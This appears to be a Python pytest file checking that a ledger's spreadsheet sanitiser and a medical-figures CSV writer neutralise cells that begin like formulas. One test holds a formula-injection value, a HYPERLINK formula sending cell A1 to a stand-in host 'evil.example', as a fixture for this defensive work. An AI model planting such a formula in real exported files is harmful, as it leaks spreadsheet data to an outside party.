"""A file of figures that a spreadsheet opens: what others named is text in it."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from ledger.spreadsheets import plain_cell
from node.cli.medicalfigures import _FIGURES, _write_csv


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_text_that_begins_like_a_formula_is_none(first: str) -> None:
    assert plain_cell(f"{first}HYPERLINK(1)") == f"'{first}HYPERLINK(1)"
    assert plain_cell(f"a{first}") == f"a{first}"
    assert plain_cell("") == ""


def test_an_item_that_another_hospital_named_is_text(tmp_path: Path) -> None:
    named = '=HYPERLINK("http://evil.example/"&A1)'
    row = {"by": "item", "key": named, "name_zh": "", "name_en": "", "reason": ""}
    _write_csv(tmp_path / "figures.csv", [row | dict.fromkeys(_FIGURES, 7) | {"saved_cents": None}])
    with (tmp_path / "figures.csv").open(encoding="utf-8-sig", newline="") as file:
        (read,) = csv.DictReader(file)
    assert (read["key"], read["offered"], read["saved_cents"]) == ("'" + named, "7", "")
